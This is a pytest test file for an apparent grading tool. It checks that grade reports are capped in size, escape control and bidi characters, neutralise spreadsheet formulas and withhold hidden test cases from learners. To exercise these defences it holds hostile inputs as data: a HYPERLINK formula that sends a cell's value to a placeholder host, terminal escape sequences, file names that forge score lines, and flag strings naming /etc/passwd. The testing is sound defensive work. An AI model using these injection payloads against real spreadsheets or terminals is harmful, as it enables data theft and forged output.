"""What grading writes is bounded and escaped, and a learner's feedback holds only what they may know.

Most tests write hand-made results with `report.write_results` (no sandbox): flags and messages
capped and counted, every control, separator and bidi character escaped in every file, no cell a
spreadsheet would run as a formula, flags shown to the learner only as the grader's own phrases
(in both languages), and which hidden case failed kept for the instructor. One test grades a small
class through `effitrain grade`: right answers under hostile file names, and one answer that makes
40,000 flags.
"""

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from test_grading import RIGHT_00, answer_00, needs_sandbox, write

from effitrain_lessons.course import grade, report, worker
from effitrain_lessons.course.lessons import lesson_names, load_lesson
from effitrain_lessons.shared.i18n import translator

# What must never reach a terminal, a spreadsheet or a feedback file raw.
DANGEROUS = (
    [chr(c) for c in range(0x20)]
    + [chr(c) for c in range(0x7F, 0xA0)]
    + ["\u061c", "\u200e", "\u200f", "\u2028", "\u2029"]
    + [chr(c) for c in range(0x202A, 0x202F)]
    + [chr(c) for c in range(0x2066, 0x206A)]
)
HOSTILE = "".join(DANGEROUS)
HIDDEN_00 = next(case.code for case in load_lesson("00_start_here").questions["q_bytes"].cases if case.hidden)
SECRET = HIDDEN_00.strip().splitlines()[-1].strip()  # a hidden test's line


def result_00(file="submission.ipynb", flags=(), language="en", **question) -> grade.SubmissionResult:
    return grade.SubmissionResult(
        file,
        "00_start_here",
        "graded",
        language=language,
        flags=list(flags),
        questions={
            "q_bytes": grade.QuestionResult("q_bytes", 0.0, 1.0, 1, 1, 0, 1, **question),
            "q_score_bytes": grade.QuestionResult("q_score_bytes", 1.0, 1.0, 1, 1, 1, 1),
        },
    )


def written(tmp_path: Path, results) -> tuple[list[list[str]], dict[str, str], list[dict]]:
    """grades.csv's rows, each feedback file's text by its CSV path, and results.json's records."""
    report.write_results(results, tmp_path)
    grades = (tmp_path / "grades.csv").read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(grades, newline="")))
    feedback = {row[-1]: (tmp_path / row[-1]).read_text(encoding="utf-8") for row in rows[1:]}
    return rows, feedback, json.loads((tmp_path / "results.json").read_text(encoding="utf-8"))


def strings(value):
    """Every string in a JSON value, keys included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def raw(text: str) -> list[str]:
    return sorted({f"U+{ord(c):04X}" for c in text if c in DANGEROUS})


# ---------------------------------------------------------------------------------------------
# Bounded


def test_40000_flags_are_capped_counted_and_leave_small_files(tmp_path):
    result = result_00()
    for i in range(40_000):
        grade._add_flag(result, "q_bytes", f"adds torch.x{i}")
    grade._add_flag(result, "q_bytes", "adds torch.x7")  # already listed: not counted again
    grade._add_flag(result, "q_bytes", "writes /etc/" + "x" * 1000)
    assert len(result.flags) == report.MAX_FLAGS + 1
    assert result.flags[-1] == "… and 39,951 more flags (cap reached)"
    assert all(len(flag) <= report.FLAG_CHARS for flag in result.flags)

    rows, feedback, records = written(tmp_path, [result])
    sizes = {path.name: path.stat().st_size for path in tmp_path.rglob("*") if path.is_file()}
    print(f"\nsizes with 40,001 flags: {sizes}")
    assert sizes["grades.csv"] < 20_000 and sizes["results.json"] < 30_000  # the cap: 1 MB
    assert sizes["submission.txt"] < 2_000
    assert rows[1][rows[0].index("flags")].endswith(
        "q_bytes: adds torch.x49; … and 39,951 more flags (cap reached)"
    )
    assert records[0]["flags"] == result.flags
    assert "39951 more flags, not listed (cap reached)" in feedback["feedback/submission.txt"]


def test_flags_put_in_a_result_by_hand_are_capped_when_written(tmp_path):
    result = result_00(flags=[f"q_bytes: adds torch.x{i}" + "y" * 500 for i in range(1000)])
    rows, _, records = written(tmp_path, [result])
    flags = records[0]["flags"]
    assert len(flags) == report.MAX_FLAGS + 1 and flags[-1] == "… and 950 more flags (cap reached)"
    assert all(len(flag) <= report.FLAG_CHARS for flag in flags) and flags[0].endswith("…")
    assert len(rows[1][rows[0].index("flags")]) < (report.FLAG_CHARS + 2) * (report.MAX_FLAGS + 1)


def test_messages_are_capped_in_number_and_length(tmp_path):
    result = result_00(public_messages=["m" * 10_000] * 1000, answer_error="e" * 1_000_000)
    result.reason = "r" * 1_000_000
    result.notes = ["n" * 10_000] * 1000
    rows, feedback, records = written(tmp_path, [result])
    assert (tmp_path / "results.json").stat().st_size < 50_000
    assert (tmp_path / "grades.csv").stat().st_size < 2_000
    question = records[0]["questions"]["q_bytes"]
    assert len(question["public_messages"]) == report.MAX_MESSAGES
    assert {len(m) for m in question["public_messages"]} == {report.MESSAGE_CHARS}
    assert len(question["answer_error"]) == report.MESSAGE_CHARS
    assert len(records[0]["reason"]) == report.MESSAGE_CHARS
    assert len(records[0]["notes"]) == report.MAX_NOTES
    assert {len(n) for n in records[0]["notes"]} == {report.NOTE_CHARS}
    text = feedback["feedback/submission.txt"]
    assert len(text) < 5_000 and text.count("m" * 400) == report.FEEDBACK_MESSAGES
    assert "n" * 100 not in text  # notes are the instructor's


# ---------------------------------------------------------------------------------------------
# Escaped


@pytest.mark.parametrize("character", DANGEROUS, ids=lambda c: f"U+{ord(c):04X}")
def test_clean_escapes_every_control_separator_and_bidi_character(character):
    text = report.clean(f"a{character}b")
    assert raw(text) == [] and text.startswith("a\\") and text.endswith("b")


def test_clean_keeps_ordinary_text_and_shows_a_newline_as_backslash_n():
    assert report.clean("çalışma_ü.ipynb → 1 of 2 ✓") == "çalışma_ü.ipynb → 1 of 2 ✓"
    assert report.clean("x\nforged: 10 of 10 (graded)") == "x\\nforged: 10 of 10 (graded)"
    assert report.clean("a\x1b[2Jb\tc\r\u202e") == "a\\x1b[2Jb\\tc\\r\\u202e"
    assert report.clean("lone \udce9 surrogate") == "lone \\xe9 surrogate"


def test_names_and_messages_are_escaped_in_every_file(tmp_path):
    result = result_00(
        f"a{HOSTILE}b.ipynb",
        flags=[f"q_bytes: writes /tmp/../etc/{HOSTILE}", f"report: {HOSTILE}"],
        public_messages=[f"wrong{HOSTILE}"],
        answer_error=f"ValueError: {HOSTILE}",
    )
    result.reason, result.notes = f"why{HOSTILE}", [f"note{HOSTILE}"]
    rows, feedback, records = written(tmp_path, [result])
    grades = (tmp_path / "grades.csv").read_bytes().decode("utf-8")
    assert grades.count("\r\n") == 2  # the CSV's own line ends only
    assert [raw(line) for line in grades.split("\r\n")] == [[], [], []]
    [text] = feedback.values()
    assert all(raw(line) == [] for line in text.split("\n"))
    assert text.startswith(f"{rows[1][0]}: 1 of 2 points")  # the file's name on its own first line
    assert all(raw(s) == [] for s in strings(records))
    assert records[0]["file"] == rows[1][0] == report.clean(result.file)


def test_the_console_summary_prints_one_line_per_file(tmp_path, capsys, monkeypatch):
    names = ["a\x1b[2Jb.ipynb", "x\nforged: 10 of 10 (graded).ipynb", f"c{HOSTILE}.ipynb"]
    results = [result_00(name) for name in names]
    results[0].reason = "why\r\x1b[1Aforged: 10 of 10"
    monkeypatch.setattr(grade, "grade", lambda *args, **kwargs: results)
    assert grade.main_grade([str(tmp_path), "--out", str(tmp_path / "out"), "--quiet"]) == 0
    lines = capsys.readouterr().out.split("\n")
    assert lines[:3] == [
        "a\\x1b[2Jb.ipynb: 1 of 2 (graded: why\\r\\x1b[1Aforged: 10 of 10)",
        "x\\nforged: 10 of 10 (graded).ipynb: 1 of 2 (graded)",
        f"{report.clean(names[2])}: 1 of 2 (graded)",
    ]
    assert lines[3].startswith("wrote ") and lines[4:] == [""]
    assert all(raw(line) == [] for line in lines)


# ---------------------------------------------------------------------------------------------
# No formula cells


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(tmp_path, start):
    formula = f'{start}HYPERLINK("http://x/?"&A1,"click")'
    result = result_00(f"{formula}.ipynb", flags=[f"{formula}: forged"])
    result.lesson, result.status, result.reason = formula, formula, formula
    rows, _, records = written(tmp_path, [result])
    for row in rows:
        for text in row:
            assert not text.startswith(report.FORMULA_START), (row, text)
    row = dict(zip(rows[0], rows[1]))
    for column in ("file", "lesson", "status", "reason", "flags"):
        assert row[column].startswith("'" if start in "=+-@" else "\\"), (column, row[column])
    assert records[0]["file"] == report.clean(result.file)  # results.json is no spreadsheet: no quote


def test_points_are_never_negative_so_numbers_stay_numbers(tmp_path):
    for name in lesson_names():
        for question in load_lesson(name).questions.values():
            everything = {case.index: True for case in question.cases}
            for passed in ({}, everything, {case.index: False for case in question.cases}):
                assert 0 <= question.score(passed) <= question.points, (name, question.name)
    rows, _, _ = written(tmp_path, [result_00(), result_00("b.ipynb")])
    for row in rows[1:]:
        for column in ("q_bytes", "q_score_bytes", "total", "possible"):
            assert float(row[rows[0].index(column)]) >= 0


# ---------------------------------------------------------------------------------------------
# What a learner reads


FORGED = [
    "q_bytes: calls setattr()",
    "q_bytes: adds torch.x0",
    "q_bytes: adds torch.x1",
    "q_bytes: changes torch.testing.assert_close during a test",
    "q_bytes: imports os",
    f"q_bytes: imports {SECRET}",
    "q_bytes: imports the grader (effitrain_lessons.course.grade)",
    "q_bytes: writes /etc/passwd",
    "q_bytes: reads /proc/1/environ",
    "q_bytes: redefines the built-in print",
    f"q_bytes: redefines the built-in {SECRET}",
    "q_bytes: forks the process",
    f"q_bytes: {SECRET}",
    f"q_score_bytes: reaches into {SECRET}",
    f"{SECRET}: forks the process",
    "report: a message arrived that the grader did not ask for",
]


def test_feedback_shows_each_flag_as_a_phrase_of_the_graders_once(tmp_path):
    rows, feedback, records = written(tmp_path, [result_00(flags=FORGED)])
    text = feedback["feedback/submission.txt"]
    flagged = text.split("Flagged for your instructor's review (the score is unchanged):\n", 1)[1]
    assert flagged.splitlines() == [
        "  q_bytes: calls setattr()",
        "  q_bytes: changes a module or class the tests rely on (it was put back)",
        "  q_bytes: imports os",
        "  q_bytes: imports a system module",
        "  q_bytes: imports the grader",
        "  q_bytes: writes a file outside its folder",
        "  q_bytes: reads another process's private files",
        "  q_bytes: redefines the built-in print",
        "  q_bytes: something the grader did not expect",
        "  q_bytes: forks the process",
        "  q_score_bytes: something the grader did not expect",
        "  something the grader did not expect",
        "  a message arrived that the grader did not ask for",
    ]
    for secret in (SECRET, "torch.x0", "/etc/passwd", "/proc/1/environ", "assert_close"):
        assert secret not in text, secret
    # the instructor's files keep every flag's text (cut at FLAG_CHARS)
    assert records[0]["flags"] == [report.clean(flag, report.FLAG_CHARS) for flag in FORGED]
    assert f"q_bytes: {SECRET}" in rows[1][rows[0].index("flags")]


def test_every_audit_phrase_of_the_worker_is_in_the_vocabulary_in_both_languages():
    turkish = translator("tr")
    for what in worker.REACH.values():
        assert report.flag_phrase(what) == (what, {})
        assert report.flag_phrase(what + " during a test") == (what, {})
        assert turkish(what) != what, f"no Turkish for {what!r}: add it to report.REACH_PHRASES"
    for phrase in report.FLAG_PHRASES.values():
        assert turkish(phrase) != phrase, phrase


def test_turkish_feedback_names_flags_in_turkish(tmp_path):
    _, feedback, _ = written(tmp_path, [result_00(flags=FORGED[:6], language="tr")])
    text = feedback["feedback/submission.txt"]
    turkish = translator("tr")
    assert turkish("Flagged for your instructor's review (the score is unchanged):") in text
    assert "  q_bytes: " + turkish("imports {name}").format(name="os") in text
    assert "  q_bytes: " + turkish("calls {name}()").format(name="setattr") in text
    assert "imports" not in text and "changes" not in text and SECRET not in text


def test_which_hidden_case_failed_is_for_the_instructor_only(tmp_path):
    told, _, records = written(tmp_path / "told", [result_00(hidden_failed=[1, 3])])
    untold, _, _ = written(tmp_path / "untold", [result_00()])
    assert records[0]["questions"]["q_bytes"]["hidden_failed"] == [1, 3]
    assert records[0]["questions"]["q_score_bytes"]["hidden_failed"] == []
    assert (tmp_path / "told" / "feedback" / "submission.txt").read_bytes() == (
        tmp_path / "untold" / "feedback" / "submission.txt"
    ).read_bytes()
    assert told == untold  # grades.csv says nothing of it either


def test_a_message_that_quotes_a_hidden_test_is_withheld_from_the_learner(tmp_path):
    split = SECRET[:20] + "\n  \u200b" + SECRET[20:].replace(" ", "\t")  # however it is spaced
    result = result_00(public_messages=[f"AssertionError: {SECRET}"], answer_error=f"E: {split}")
    result.reason = f"printed {SECRET}"
    _, feedback, records = written(tmp_path, [result])
    text = feedback["feedback/submission.txt"]
    assert SECRET not in text and text.count("(withheld: it quotes a hidden test)") == 3
    assert SECRET in records[0]["reason"]  # the instructor sees it


# ---------------------------------------------------------------------------------------------
# Through `effitrain grade`

FLOOD = "import torch\nfor i in range(40000):\n    setattr(torch, f'x{i}', lambda: 0)\n"
NAMES = {  # file name -> how grades.csv and the console show it
    "a\x1b[2Jb.ipynb": "a\\x1b[2Jb.ipynb",
    "x\nforged: 10 of 10 (graded).ipynb": "x\\nforged: 10 of 10 (graded).ipynb",
    "=HYPERLINK(1).ipynb": "=HYPERLINK(1).ipynb",
    "rtl\u202e\u2028\x85.ipynb": "rtl\\u202e\\u2028\\x85.ipynb",
}


@needs_sandbox
def test_a_class_with_hostile_names_and_a_flood_of_flags(tmp_path):
    folder, out = tmp_path / "class", tmp_path / "out"
    for name in NAMES:
        write(folder, name, answer_00(RIGHT_00))
    write(folder, "flood.ipynb", answer_00(RIGHT_00 + FLOOD))
    command = Path(sys.executable).with_name("effitrain")
    done = subprocess.run(
        [str(command), "grade", str(folder), "--out", str(out), "--quiet"], capture_output=True, timeout=600
    )
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    console = done.stdout.decode("utf-8")
    assert raw(console.replace("\n", "")) == []
    lines = console.splitlines()
    shown = {**NAMES, "flood.ipynb": "flood.ipynb"}
    possible = format(sum(q.points for q in load_lesson("00_start_here").questions.values()), "g")
    assert sorted(lines[:-1]) == sorted(f"{name}: 1 of {possible} (graded)" for name in shown.values())
    assert lines[-1] == f"wrote {out / 'grades.csv'} and 5 feedback files"

    grades = (out / "grades.csv").read_bytes().decode("utf-8")
    assert raw(grades.replace("\r\n", "")) == []
    rows = {row["file"]: row for row in csv.DictReader(io.StringIO(grades, newline=""))}
    assert sorted(rows) == sorted(["'=HYPERLINK(1).ipynb", *(n for n in shown.values() if n[0] != "=")])
    assert all(row["total"] == "1" for row in rows.values())

    # The worker reports each of the 40,000 added attributes once, and the source review adds what it
    # reads (today `calls setattr()`): 50 listed, the rest counted.
    flood = rows["flood.ipynb"]["flags"].split("; ")
    assert len(flood) == report.MAX_FLAGS + 1 and "q_bytes: adds torch.x0" in flood
    more = report.unlisted_flags(flood)
    assert 40_000 <= report.MAX_FLAGS + more <= 40_010, flood[-1]
    sizes = {path.name: path.stat().st_size for path in out.rglob("*") if path.is_file()}
    print(f"\n40,000 flags end to end: {more + report.MAX_FLAGS:,} flags; sizes {sizes}")
    assert sizes["grades.csv"] < 1_000_000 and sizes["grades.csv"] < 20_000
    assert sizes["results.json"] < 50_000 and sizes["flood.txt"] < 2_000
    records = {record["file"]: record for record in json.loads((out / "results.json").read_text("utf-8"))}
    assert set(records) == {report.clean(name) for name in [*NAMES, "flood.ipynb"]}
    feedback = (out / rows["flood.ipynb"]["feedback"]).read_text(encoding="utf-8")
    assert "torch.x" not in feedback and f"{more} more flags, not listed (cap reached)" in feedback
